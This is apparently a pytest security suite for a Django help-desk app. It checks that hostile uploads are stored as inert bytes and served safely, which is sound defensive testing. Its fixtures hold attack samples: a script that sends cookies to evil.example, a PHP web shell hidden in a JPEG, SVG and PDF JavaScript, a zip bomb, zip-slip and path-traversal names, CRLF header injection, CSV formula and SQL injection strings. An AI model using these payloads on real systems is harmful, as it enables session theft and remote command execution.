"""Files that mean harm, sent through every form that takes one: kept as bytes, given back as bytes.

Owj never unpacks, renders or runs an upload; what remains is how it is named, stored and served.
"""

from __future__ import annotations

import hashlib
import io
import re
import unicodedata
import zipfile
from uuid import uuid4

import pytest
from django.conf import settings
from django.http import HttpResponse
from django.urls import reverse

from owj.server.files.models import StoredFile
from owj.server.files.storage import files_folder, path_of
from owj.service.trials.visitor import Upload, multipart
from tests.security.asking import answer_of
from tests.security.world import World

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
SHOWN_AS_THEY_ARE = {"image/png", "image/jpeg", "image/gif", "image/webp", "application/pdf"}


def archive(names: dict[str, bytes]) -> bytes:
    """Return a ZIP with these names, whatever they are."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, inside in names.items():
            packed.writestr(name, inside)
    return content.getvalue()


CONTENTS: dict[str, bytes] = {
    "page.html": b"<!doctype html><title>x</title>" + SCRIPT,
    "page-with-a-start.html": b"\xef\xbb\xbf \n<html>" + SCRIPT,
    "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "old.xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT,
    "style.xml": b'<?xml version="1.0"?><?xml-stylesheet href="data:,x" type="text/xsl"?><a/>',
    "mail.mhtml": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + SCRIPT,
    "program.exe": b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + b"\x00" * 200,
    "program.png": b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + b"\x00" * 200,
    "shell.php.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"<?php system($_GET[0]); ?>",
    "picture.gif": b"GIF89a/*" + b"\x00" * 8 + b"*/=1;alert(1)//" + SCRIPT,
    "picture.png": b"\x89PNG\r\n\x1a\n" + SCRIPT,
    "paper.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n" + SCRIPT,
    "page.pdf": b"<html>%PDF-1.7" + SCRIPT,
    "bomb.zip": archive({"zeros": b"\x00" * 20_000_000}),
    "slip.zip": archive({"../../../etc/cron.d/evil": b"x", "C:\\evil": b"x", "/evil": b"x"}),
    "macro.docm": archive({"[Content_Types].xml": b"<a/>", "word/vbaProject.bin": b"x"}),
    "script.js": b"alert(1)",
    "page.svgz": b"\x1f\x8b\x08\x00" + b"\x00" * 20,
    "formula.csv": b'=HYPERLINK("http://evil.example"),1\r\n',
    "shortcut.url": b"[InternetShortcut]\r\nURL=file:///etc/passwd\r\n",
}
NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\evil.dll",
    "/etc/cron.d/evil",
    "C:\\evil.exe",
    "file:///etc/passwd",
    "photo\u202egnp.exe",
    "photo\u2066\u200fexe.png",
    "con.txt",
    ".htaccess",
    "...",
    "   ",
    "evil\r\nSet-Cookie: a=b.txt",
    "evil\x00.png",
    "evil%2e%2e%2fpasswd",
    "گزارش" * 60 + ".pdf",
    "😀" * 300 + ".txt",
    "كتاب ي.txt",
    "a" * 4000,
    "<img src=x onerror=alert(1)>.png",
    "';DROP TABLE e_ticket;--.txt",
)
STRAIGHT = "نامه.txt"


def send(world: World, where: str, *uploads: Upload) -> HttpResponse:
    """Send a form with files the way a browser does: names as they are, types as claimed."""
    fields = {"key": str(uuid4()), "text": "پیوست", "subject": "پیوست", "kind": "request"}
    person, path = world.person("mine"), reverse("hub:new_ticket")
    if where == "hub reply":
        path = reverse("hub:reply", args=[world.mine_open.tracking_id])
    elif where == "staff reply":
        person = world.person("agent")
        path = reverse("client:reply", args=[world.mine_open.tracking_id])
        fields["kind"] = "note"
    body, kind = multipart(fields | {"importance": "low"}, uploads)
    return answer_of(person.client.post(path, body, content_type=kind))


def stored(content: bytes) -> list[StoredFile]:
    """Return the files that hold this content."""
    return list(StoredFile.objects.filter(sha256=hashlib.sha256(content).hexdigest()))


def check_kept(file: StoredFile) -> None:
    """Hold what is true of every kept file, whoever named it how."""
    assert re.fullmatch(r"[0-9a-f]{40}", file.storage_name)
    assert path_of(file.storage_name).resolve().is_relative_to(files_folder().resolve())
    assert path_of(file.storage_name).stat().st_mode & 0o177 == 0
    name = file.original_name
    assert 0 < len(name) <= 150
    assert not set(name) & set("/\\\x00\r\n")
    kinds = {unicodedata.category(letter) for letter in name if letter != "\u200c"}
    assert not kinds & {"Cc", "Cf", "Cs", "Zl", "Zp"}


def check_served(world: World, file: StoredFile) -> None:
    """Hold what is true of every answer that carries a file: no browser takes it for a page."""
    for query in ("", "?show=1", "?inline=1", "?in_place=1"):
        client = world.person("mine").client
        answer = answer_of(client.get(reverse("hub:file", args=[file.pk]) + query))
        assert answer.status_code == 200
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
        disposition = answer.headers["Content-Disposition"]
        kind = answer.headers["Content-Type"].partition(";")[0]
        assert disposition.startswith("attachment") or kind in SHOWN_AS_THEY_ARE
        assert not re.search(r"html|xml|svg|javascript", kind)
        assert not set(disposition) & set("\r\n\x00")


def left_in_the_store() -> set[str]:
    return {path.name for path in files_folder().rglob("*") if path.is_file()}


@pytest.mark.parametrize("name", sorted(CONTENTS))
def test_a_hostile_file_is_bytes_and_stays_bytes(world: World, name: str) -> None:
    assert send(world, "hub new", Upload("uploads", name, CONTENTS[name])).status_code == 302
    (file,) = stored(CONTENTS[name])
    check_kept(file)
    assert path_of(file.storage_name).read_bytes() == CONTENTS[name]
    check_served(world, file)


@pytest.mark.parametrize("where", ["hub new", "hub reply", "staff reply"])
@pytest.mark.parametrize("number", range(len(NAMES)))
def test_a_hostile_name_is_only_a_name(world: World, where: str, number: int) -> None:
    name = NAMES[number].replace('"', "%22")
    answer = send(world, where, Upload("uploads", name, b"harmless"))
    # A name that ends the header's line is no form any more: refused, never obeyed.
    assert answer.status_code in {200, 302, 400, 422}
    assert "Set-Cookie: a=b" not in str(answer.headers)
    kept = stored(b"harmless")
    assert len(kept) == (answer.status_code == 302)
    for file in kept:
        check_kept(file)
        if where != "staff reply":
            check_served(world, file)


@pytest.mark.parametrize("where", ["hub new", "hub reply", "staff reply"])
def test_an_empty_and_a_too_large_file_are_refused_with_a_sentence(
    world: World, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = left_in_the_store()
    empty = send(world, where, Upload("uploads", STRAIGHT, b""))
    assert empty.status_code == 422
    monkeypatch.setattr(settings, "FILE_LIMIT_BYTES", 2**20)
    large = send(world, where, Upload("uploads", STRAIGHT, b"x" * (2**20 + 1)))
    assert large.status_code == 422
    assert left_in_the_store() == before


def test_more_files_than_a_message_takes_are_refused(world: World) -> None:
    uploads = [Upload("uploads", f"{number}.txt", b"harmless") for number in range(11)]
    assert send(world, "hub reply", *uploads).status_code == 422
